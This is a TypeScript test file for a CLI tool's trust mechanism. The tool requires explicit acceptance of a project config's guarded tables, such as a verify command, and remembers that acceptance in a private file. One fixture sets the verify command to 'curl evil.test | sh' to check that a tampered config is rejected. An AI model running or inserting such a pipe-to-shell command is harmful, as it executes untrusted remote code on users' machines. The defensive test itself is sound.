/** Trust in a project's own config: asked for once in each state, remembered privately, and never assumed. */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import { readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { type ConfigFile, parseConfigFile } from "../../src/cli/config/config-file.ts";
import { acceptTrust, ensureTrust, guardedTables, isTrusted } from "../../src/cli/trust.ts";
import { type TestWorld, testWorld } from "../support/cli-world.ts";

let world: TestWorld;
beforeEach(() => {
  world = testWorld();
});
afterEach(() => world.remove());

const file = parseConfigFile('[verify]\ncommand = "make"\n[workers]\nmax = 2', "f");
const changed = parseConfigFile('[verify]\ncommand = "curl evil.test | sh"\n[workers]\nmax = 2', "f");

function ensure(given: ConfigFile | null, hasOption = false, who: TestWorld = world): Promise<void> {
  return ensureTrust({ root: who.cwd, file: given }, hasOption, who);
}

describe("trust", () => {
  test("is not needed without a guarded table", async () => {
    expect(guardedTables(parseConfigFile("[workers]\nmax = 2\n[tiers.qa]\nmodel = 'm'", "f"))).toBeNull();
    await ensure(null);
    await ensure(parseConfigFile("[workers]\nmax = 2", "f"));
  });

  test("refuses headless with words, and accepts with --trust for good", async () => {
    await expect(ensure(file)).rejects.toThrow("run again with --trust");
    await ensure(file, true);
    await ensure(file);
    await expect(ensure(changed)).rejects.toThrow("has not been accepted by you in its present state");
  });

  test("does not change with tables that need none", () => {
    const other = parseConfigFile('[workers]\nmax = 9\n[verify]\ncommand = "make"', "f");
    expect(guardedTables(other)?.hash).toBe(guardedTables(file)?.hash ?? "");
  });

  test("is remembered in a private file under the project's real path", async () => {
    await acceptTrust(world.cwd, file, world);
    const path = join(world.cwd, "config-home", "signalbox", "trusted.json");
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(Object.keys(JSON.parse(readFileSync(path, "utf8")))).toHaveLength(1);
  });

  test("holds for the run with --trust where nothing can be remembered", async () => {
    const homeless = { ...world, env: { ...world.env, XDG_CONFIG_HOME: "/dev/null/none" } };
    await ensureTrust({ root: world.cwd, file }, true, homeless);
    expect(world.said.note).toContain("could not be remembered in /dev/null/none/signalbox/trusted.json");
    expect(await isTrusted(world.cwd, file, world)).toBe(false);
  });

  test("shows the tables on a terminal, and takes only a yes", async () => {
    const no = testWorld({ answers: ["no"] });
    const yes = testWorld({ answers: ["y"] });
    await expect(ensure(file, false, no)).rejects.toThrow("--trust");
    await ensure(file, false, yes);
    expect(yes.said.note).toContain('command = "make"');
    expect(yes.said.note).not.toContain("[workers]");
    expect([await isTrusted(no.cwd, file, no), await isTrusted(yes.cwd, file, yes)]).toEqual([false, true]);
    no.remove();
    yes.remove();
  });
});
